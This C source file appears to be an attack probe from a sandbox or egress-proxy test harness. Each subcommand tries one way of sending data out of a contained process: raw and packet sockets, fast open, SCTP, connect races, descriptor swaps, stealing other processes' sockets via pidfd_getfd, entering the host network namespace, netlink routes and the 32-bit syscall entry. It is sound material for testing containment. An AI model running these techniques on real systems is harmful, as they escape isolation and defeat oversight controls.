/* attack WHAT [ARGUMENTS]: one attempt to get bytes out past the proxy, by system calls that no script language offers.
 * Prints what came of it: `sent N`, or the call that refused and its errno. */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/if.h>
#include <net/route.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef IPPROTO_SMC
#define IPPROTO_SMC 256
#endif
#ifndef TCP_FASTOPEN_CONNECT
#define TCP_FASTOPEN_CONNECT 30
#endif

struct target { struct sockaddr_storage at; socklen_t size; };

static const char *name_of(int error) {
  static const struct { int error; const char *name; } names[] = {
    {EPERM, "EPERM"}, {ENOENT, "ENOENT"}, {EACCES, "EACCES"}, {EINVAL, "EINVAL"}, {ENOSYS, "ENOSYS"}, {EBADF, "EBADF"}, {EFAULT, "EFAULT"}, {ESRCH, "ESRCH"},
    {ENODEV, "ENODEV"}, {EPIPE, "EPIPE"}, {ENETUNREACH, "ENETUNREACH"}, {EHOSTUNREACH, "EHOSTUNREACH"}, {ECONNREFUSED, "ECONNREFUSED"}, {ECONNRESET, "ECONNRESET"},
    {EAFNOSUPPORT, "EAFNOSUPPORT"}, {EPROTONOSUPPORT, "EPROTONOSUPPORT"}, {ESOCKTNOSUPPORT, "ESOCKTNOSUPPORT"}, {EOPNOTSUPP, "EOPNOTSUPP"}, {ENOTCONN, "ENOTCONN"},
    {EDESTADDRREQ, "EDESTADDRREQ"}, {EADDRNOTAVAIL, "EADDRNOTAVAIL"}, {ENOPROTOOPT, "ENOPROTOOPT"}, {EISCONN, "EISCONN"}, {EALREADY, "EALREADY"}, {EINPROGRESS, "EINPROGRESS"},
    {EAGAIN, "EAGAIN"}, {ETIMEDOUT, "ETIMEDOUT"}, {ENXIO, "ENXIO"}, {ENOTSOCK, "ENOTSOCK"}, {EUSERS, "EUSERS"}, {ENOSPC, "ENOSPC"}};
  static char number[16];
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) if (names[i].error == error) return names[i].name;
  snprintf(number, sizeof number, "errno %d", error);
  return number;
}

static void said(const char *call) { printf("%s: %s\n", call, name_of(errno)); }

static struct target inet_target(const char *address, const char *port) {
  struct target t = {0};
  struct sockaddr_in four = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
  struct sockaddr_in6 six = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)atoi(port))};
  if (inet_pton(AF_INET, address, &four.sin_addr) == 1) { memcpy(&t.at, &four, sizeof four); t.size = sizeof four; return t; }
  if (inet_pton(AF_INET6, address, &six.sin6_addr) != 1) exit(2);
  memcpy(&t.at, &six, sizeof six);
  t.size = sizeof six;
  return t;
}

static struct target local_target(const char *name) {
  struct target t = {0};
  struct sockaddr_un un = {.sun_family = AF_UNIX};
  size_t n = strlen(name);
  if (n >= sizeof un.sun_path) exit(2);
  memcpy(un.sun_path, name, n);
  if (name[0] == '@') un.sun_path[0] = 0;
  memcpy(&t.at, &un, sizeof un);
  t.size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (name[0] == '@' ? 0 : 1));
  return t;
}

static int family_of(const struct target *t) { return t->at.ss_family; }

static void outcome(const char *call, ssize_t n) {
  if (n < 0) said(call);
  else printf("sent %zd\n", n);
}

/* A connection gets half a second; what is sent then goes out before the end. */
static void finish_stream(int s, const char *text) {
  struct pollfd p = {s, POLLOUT, 0};
  int error = 0;
  socklen_t size = sizeof error;
  if (poll(&p, 1, 500) != 1) { printf("no answer\n"); return; }
  getsockopt(s, SOL_SOCKET, SO_ERROR, &error, &size);
  if (error) { errno = error; said("connect"); return; }
  ssize_t n = send(s, text, strlen(text), MSG_NOSIGNAL);
  if (n < 0) { said("send"); return; }
  char answer[64] = "";
  p.events = POLLIN;
  ssize_t got = poll(&p, 1, 300) == 1 ? recv(s, answer, sizeof answer - 1, 0) : -2;
  if (got > 0) printf("answered %.40s\n", answer);
  else printf("%s\n", got == -2 ? "sent, no answer" : got == 0 ? "sent, closed" : "sent, reset");
}

static int open_or_say(int family, int type, int protocol) {
  int s = socket(family, type, protocol);
  if (s < 0) said("socket");
  return s;
}

/* connect ADDRESS PORT TEXT [PROTOCOL] */
static void stream(struct target t, int protocol, const char *text) {
  int s = open_or_say(family_of(&t), SOCK_STREAM, protocol);
  if (s < 0) return;
  if (connect(s, (struct sockaddr *)&t.at, t.size)) said("connect");
  else finish_stream(s, text);
}

static void fast_open(const char *how, struct target t, const char *text) {
  int s = open_or_say(family_of(&t), SOCK_STREAM, 0), on = 1;
  struct iovec io = {(char *)text, strlen(text)};
  struct msghdr m = {.msg_name = &t.at, .msg_namelen = t.size, .msg_iov = &io, .msg_iovlen = 1};
  struct mmsghdr mm = {.msg_hdr = m};
  if (s < 0) return;
  if (!strcmp(how, "sendto")) outcome("sendto", sendto(s, text, strlen(text), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&t.at, t.size));
  else if (!strcmp(how, "sendmsg")) outcome("sendmsg", sendmsg(s, &m, MSG_FASTOPEN | MSG_NOSIGNAL));
  else if (!strcmp(how, "sendmmsg")) outcome("sendmmsg", sendmmsg(s, &mm, 1, MSG_FASTOPEN | MSG_NOSIGNAL));
  else {
    if (setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on)) said("setsockopt");
    if (connect(s, (struct sockaddr *)&t.at, t.size)) { said("connect"); return; }
    finish_stream(s, text);
    return;
  }
  struct pollfd p = {s, POLLIN, 0};
  char answer[64];
  if (poll(&p, 1, 300) == 1) printf("then %zd\n", recv(s, answer, sizeof answer, 0));
}

static void datagram(const char *how, struct target t, int type, int protocol, const char *text) {
  int s = open_or_say(family_of(&t), type, protocol);
  struct iovec io = {(char *)text, strlen(text)};
  struct msghdr m = {.msg_name = &t.at, .msg_namelen = t.size, .msg_iov = &io, .msg_iovlen = 1};
  struct mmsghdr mm = {.msg_hdr = m};
  if (s < 0) return;
  if (!strcmp(how, "sendto")) outcome("sendto", sendto(s, text, strlen(text), 0, (struct sockaddr *)&t.at, t.size));
  else if (!strcmp(how, "sendmsg")) outcome("sendmsg", sendmsg(s, &m, 0));
  else if (!strcmp(how, "sendmmsg")) outcome("sendmmsg", sendmmsg(s, &mm, 1, 0));
  else if (connect(s, (struct sockaddr *)&t.at, t.size)) said("connect");
  else outcome("write", write(s, text, strlen(text)));
}

/* An echo request (RFC 792) with the text behind its head; other protocols take the text as it is. */
static void packets(const char *address, int type, int protocol, const char *text) {
  char echo[256] = {(char)(strchr(address, ':') ? 128 : 8)};
  struct target t = inet_target(address, "0");
  int s = open_or_say(family_of(&t), type, protocol), head = protocol == 1 || protocol == 58 ? 8 : 0;
  if (s < 0) return;
  size_t n = (size_t)head + (size_t)snprintf(echo + head, sizeof echo - (size_t)head, "%s", text);
  outcome("sendto", sendto(s, echo, n, 0, (struct sockaddr *)&t.at, t.size));
}

/* race ADDRESS PORT ADDRESS PORT TEXT: two threads change the address under connect(2). */
static struct { struct sockaddr_in at; struct sockaddr_in one, two; volatile int done; } shared;
static void set_to(const struct sockaddr_in *at) {
  shared.at = *at;
  for (int i = 0; i < 300; i++) __asm__ volatile("" ::: "memory");
}
static void *flip(void *unused) {
  (void)unused;
  while (!shared.done) { set_to(&shared.two); set_to(&shared.one); }
  return NULL;
}
static void race(struct target one, struct target two, const char *text) {
  pthread_t thread;
  int made = 0;
  memcpy(&shared.one, &one.at, sizeof shared.one);
  memcpy(&shared.two, &two.at, sizeof shared.two);
  shared.at = shared.one;
  pthread_create(&thread, NULL, flip, NULL);
  for (int i = 0; i < 120; i++) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct pollfd p = {s, POLLOUT, 0};
    if (!connect(s, (struct sockaddr *)&shared.at, sizeof shared.at) && poll(&p, 1, 200) == 1 && send(s, text, strlen(text), MSG_NOSIGNAL) > 0) made++;
    close(s);
  }
  shared.done = 1;
  pthread_join(thread, NULL);
  printf("raced, %d connections\n", made);
}

/* swap ADDRESS PORT TEXT: another socket takes the descriptor's number while connect(2) is held. */
static int swapped, spare;
static void *swap(void *unused) {
  (void)unused;
  while (!shared.done) dup2(spare, swapped);
  return NULL;
}
static void swap_descriptor(struct target t, const char *text) {
  pthread_t thread;
  swapped = socket(AF_INET, SOCK_STREAM, 0);
  spare = socket(AF_INET, SOCK_DGRAM, 0);
  if (spare < 0) spare = socket(AF_UNIX, SOCK_STREAM, 0);
  pthread_create(&thread, NULL, swap, NULL);
  int made = 0;
  for (int i = 0; i < 60; i++) {
    if (!connect(swapped, (struct sockaddr *)&t.at, t.size)) made++;
    if (send(swapped, text, strlen(text), MSG_NOSIGNAL | MSG_DONTWAIT) < 0) continue;
  }
  shared.done = 1;
  pthread_join(thread, NULL);
  printf("swapped, %d\n", made);
}

/* again ADDRESS PORT ADDRESS PORT TEXT: an allowed connection is dissolved (AF_UNSPEC) and the socket connected elsewhere. */
static void again(struct target one, struct target two, const char *text) {
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  int s = open_or_say(AF_INET, SOCK_STREAM, 0);
  if (s < 0) return;
  if (connect(s, (struct sockaddr *)&one.at, one.size)) { said("connect"); return; }
  if (connect(s, &none, sizeof none)) printf("dissolve: %s, ", name_of(errno));
  if (connect(s, (struct sockaddr *)&two.at, two.size)) said("connect");
  else finish_stream(s, text);
}

/* listen HOW TEXT: waits for a connection from outside and gives it the text. The harness tries every port that is printed. */
static void offer(const char *how, const char *text) {
  int protocol = !strcmp(how, "mptcp") ? IPPROTO_MPTCP : 0, on = 1;
  struct sockaddr_in any = {.sin_family = AF_INET};
  socklen_t size = sizeof any;
  int s = open_or_say(AF_INET, SOCK_STREAM, protocol);
  if (s < 0) return;
  setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  if (!strcmp(how, "bind") && bind(s, (struct sockaddr *)&any, sizeof any)) { said("bind"); return; }
  if (listen(s, 8)) { said("listen"); return; }
  getsockname(s, (struct sockaddr *)&any, &size);
  printf("OFFER %d\n", ntohs(any.sin_port));
  fflush(stdout);
  struct pollfd p = {s, POLLIN, 0};
  if (poll(&p, 1, 700) != 1) { printf("nobody came\n"); return; }
  int peer = accept(s, NULL, NULL);
  if (peer < 0) said("accept");
  else outcome("send", send(peer, text, strlen(text), MSG_NOSIGNAL));
}

static void inherited(const char *text) {
  int found = 0;
  for (int fd = 3; fd < 256; fd++) {
    int type;
    socklen_t size = sizeof type;
    if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size)) continue;
    found++;
    if (write(fd, text, strlen(text)) < 0) said("write");
  }
  printf("%d inherited sockets\n", found);
}

static void packet(const char *text) {
  int s = open_or_say(AF_PACKET, SOCK_RAW, htons(3));
  if (s < 0) return;
  struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = 1, .sll_halen = 6};
  outcome("sendto", sendto(s, text, strlen(text), 0, (struct sockaddr *)&at, sizeof at));
}

static void vsock(const char *text) {
  int s = open_or_say(AF_VSOCK, SOCK_STREAM, 0);
  if (s < 0) return;
  struct sockaddr_vm at = {.svm_family = AF_VSOCK, .svm_cid = VMADDR_CID_HOST, .svm_port = 1024};
  if (connect(s, (struct sockaddr *)&at, sizeof at)) said("connect");
  else outcome("send", send(s, text, strlen(text), MSG_NOSIGNAL));
}

/* A default route by the loopback, over netlink. */
static void route(void) {
  struct { struct nlmsghdr h; struct rtmsg r; char room[64]; } q = {0};
  struct { struct nlmsghdr h; struct nlmsgerr e; char room[512]; } a = {0};
  int s = open_or_say(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
  if (s < 0) return;
  q.h = (struct nlmsghdr){NLMSG_LENGTH(sizeof q.r), RTM_NEWROUTE, NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK, 1, 0};
  q.r = (struct rtmsg){.rtm_family = AF_INET, .rtm_table = RT_TABLE_MAIN, .rtm_protocol = RTPROT_BOOT, .rtm_scope = RT_SCOPE_LINK, .rtm_type = RTN_UNICAST};
  struct rtattr *oif = (struct rtattr *)((char *)&q + NLMSG_ALIGN(q.h.nlmsg_len));
  oif->rta_type = RTA_OIF;
  oif->rta_len = RTA_LENGTH(4);
  *(int *)RTA_DATA(oif) = 1;
  q.h.nlmsg_len = NLMSG_ALIGN(q.h.nlmsg_len) + RTA_LENGTH(4);
  if (send(s, &q, q.h.nlmsg_len, 0) < 0) { said("send"); return; }
  if (recv(s, &a, sizeof a, 0) < 0) { said("recv"); return; }
  errno = -a.e.error;
  if (a.e.error) said("route");
  else printf("sent a route\n");
}

static void address(void) {
  struct ifreq r = {.ifr_name = "lo:7"};
  struct sockaddr_in a = {.sin_family = AF_INET};
  int s = open_or_say(AF_INET, SOCK_STREAM, 0);
  inet_pton(AF_INET, "203.0.113.10", &a.sin_addr);
  memcpy(&r.ifr_addr, &a, sizeof a);
  if (ioctl(s, SIOCSIFADDR, &r)) said("ioctl");
  else printf("sent an address\n");
}

static void uring(void) {
  char params[256] = {0};
  if (syscall(SYS_io_uring_setup, 4, params) < 0) said("io_uring_setup");
  else printf("sent: a ring\n");
}

static void new_namespace(int what) {
  if (unshare(what)) said("unshare");
  else printf("sent: a namespace\n");
}

static void enter_namespace(void) {
  int fd = open("/proc/1/ns/net", O_RDONLY);
  if (fd < 0) { said("open"); return; }
  if (setns(fd, CLONE_NEWNET)) said("setns");
  else printf("sent: entered\n");
}

/* Takes a socket of another process, for example of the program that started the cage. */
static void steal(const char *text) {
  int taken = 0, error = 0;
  DIR *list = opendir("/proc");
  for (struct dirent *e; list && (e = readdir(list));) {
    int pid = atoi(e->d_name), process = pid > 0 && pid != getpid() ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
    if (process < 0) continue;
    for (int fd = 3; fd < 40; fd++) {
      int got = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
      if (got < 0) { error = errno; if (errno == EPERM) break; continue; }
      if (send(got, text, strlen(text), MSG_NOSIGNAL | MSG_DONTWAIT) > 0) taken++;
      close(got);
    }
    close(process);
  }
  errno = error;
  if (taken) printf("sent: %d sockets taken\n", taken);
  else said("pidfd_getfd");
}

/* Not an attack: the host's side. Two datagram sockets and one for streams, and a line for whatever comes to them. */
static int receive(char **names) {
  struct pollfd p[3];
  for (int i = 0; i < 3; i++) {
    struct target t = local_target(names[i]);
    p[i] = (struct pollfd){.fd = socket(AF_UNIX, i == 2 ? SOCK_STREAM : SOCK_DGRAM, 0), .events = POLLIN};
    if (p[i].fd < 0 || bind(p[i].fd, (struct sockaddr *)&t.at, t.size) || (i == 2 && listen(p[i].fd, 8))) { said("bind"); return 1; }
  }
  printf("READY\n");
  fflush(stdout);
  alarm(0);
  for (char text[256]; poll(p, 3, -1) > 0;)
    for (int i = 0; i < 3; i++) {
      if (!p[i].revents) continue;
      int peer = i == 2 ? accept(p[i].fd, NULL, NULL) : p[i].fd;
      ssize_t n = recv(peer, text, sizeof text - 1, 0);
      text[n > 0 ? n : 0] = 0;
      printf("GOT %zd %s\n", n, text);
      fflush(stdout);
      if (i == 2) close(peer);
    }
  return 0;
}

static void tunnel_device(void) {
  int fd = open("/dev/net/tun", O_RDWR);
  if (fd < 0) said("open");
  else printf("sent: a tunnel device\n");
}

/* sctp: bind and connect by setsockopt(2), which no rule for connect(2) sees. */
static void sctp_connectx(struct target t, const char *text) {
  int s = open_or_say(AF_INET, SOCK_STREAM, 132);
  if (s < 0) return;
  if (setsockopt(s, 132, 110 /* SCTP_SOCKOPT_CONNECTX */, &t.at, t.size) < 0) said("setsockopt");
  else finish_stream(s, text);
}

/* The 32-bit entry has another table of calls (socketcall). */
static void compat(void) {
#ifdef __x86_64__
  long result, args = 0;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(102), "b"(1), "c"(args) : "memory");
  printf("sent: socketcall %ld\n", result);
#else
  printf("skipped: no 32-bit entry\n");
#endif
}

int main(int argc, char **argv) {
  char **a = argv + 2;
  const char *what = argc > 1 ? argv[1] : "";
  int n = argc - 2;
  signal(SIGPIPE, SIG_IGN);
  alarm(8);
  if (!strcmp(what, "connect") && n == 3) stream(inet_target(a[0], a[1]), 0, a[2]);
  else if (!strcmp(what, "mptcp") && n == 3) stream(inet_target(a[0], a[1]), IPPROTO_MPTCP, a[2]);
  else if (!strcmp(what, "smc") && n == 3) stream(inet_target(a[0], a[1]), IPPROTO_SMC, a[2]);
  else if (!strcmp(what, "sctp") && n == 3) sctp_connectx(inet_target(a[0], a[1]), a[2]);
  else if (!strcmp(what, "dccp") && n == 3) datagram("connect", inet_target(a[0], a[1]), 6 /* SOCK_DCCP */, 33, a[2]);
  else if (!strcmp(what, "fast-open") && n == 4) fast_open(a[0], inet_target(a[1], a[2]), a[3]);
  else if (!strcmp(what, "udp") && n == 4) datagram(a[0], inet_target(a[1], a[2]), SOCK_DGRAM, 0, a[3]);
  else if (!strcmp(what, "udplite") && n == 3) datagram("sendto", inet_target(a[0], a[1]), SOCK_DGRAM, 136, a[2]);
  else if (!strcmp(what, "ping") && n == 2) packets(a[0], SOCK_DGRAM, strchr(a[0], ':') ? IPPROTO_ICMPV6 : IPPROTO_ICMP, a[1]);
  else if (!strcmp(what, "raw") && n == 3) packets(a[0], SOCK_RAW, atoi(a[1]), a[2]);
  else if (!strcmp(what, "unix") && n == 2) stream(local_target(a[0]), 0, a[1]);
  else if (!strcmp(what, "unix-datagram") && n == 3) datagram(a[0], local_target(a[1]), SOCK_DGRAM, 0, a[2]);
  else if (!strcmp(what, "race") && n == 5) race(inet_target(a[0], a[1]), inet_target(a[2], a[3]), a[4]);
  else if (!strcmp(what, "swap") && n == 3) swap_descriptor(inet_target(a[0], a[1]), a[2]);
  else if (!strcmp(what, "again") && n == 5) again(inet_target(a[0], a[1]), inet_target(a[2], a[3]), a[4]);
  else if (!strcmp(what, "listen") && n == 2) offer(a[0], a[1]);
  else if (!strcmp(what, "inherited") && n == 1) inherited(a[0]);
  else if (!strcmp(what, "packet") && n == 1) packet(a[0]);
  else if (!strcmp(what, "vsock") && n == 1) vsock(a[0]);
  else if (!strcmp(what, "steal") && n == 1) steal(a[0]);
  else if (!strcmp(what, "family") && n == 2) { if (open_or_say(atoi(a[0]), atoi(a[1]), 0) >= 0) printf("sent: a socket\n"); }
  else if (!strcmp(what, "netlink") && n == 1) { if (open_or_say(AF_NETLINK, SOCK_RAW, atoi(a[0])) >= 0) printf("sent: a socket\n"); }
  else if (!strcmp(what, "route")) route();
  else if (!strcmp(what, "address")) address();
  else if (!strcmp(what, "uring")) uring();
  else if (!strcmp(what, "namespace")) new_namespace(CLONE_NEWNET);
  else if (!strcmp(what, "user-namespace")) new_namespace(CLONE_NEWUSER | CLONE_NEWNET);
  else if (!strcmp(what, "enter")) enter_namespace();
  else if (!strcmp(what, "tunnel")) tunnel_device();
  else if (!strcmp(what, "compat")) compat();
  else if (!strcmp(what, "receive") && n == 3) return receive(a);
  else { printf("no such attack: %s with %d arguments\n", what, n); return 2; }
  return 0;
}
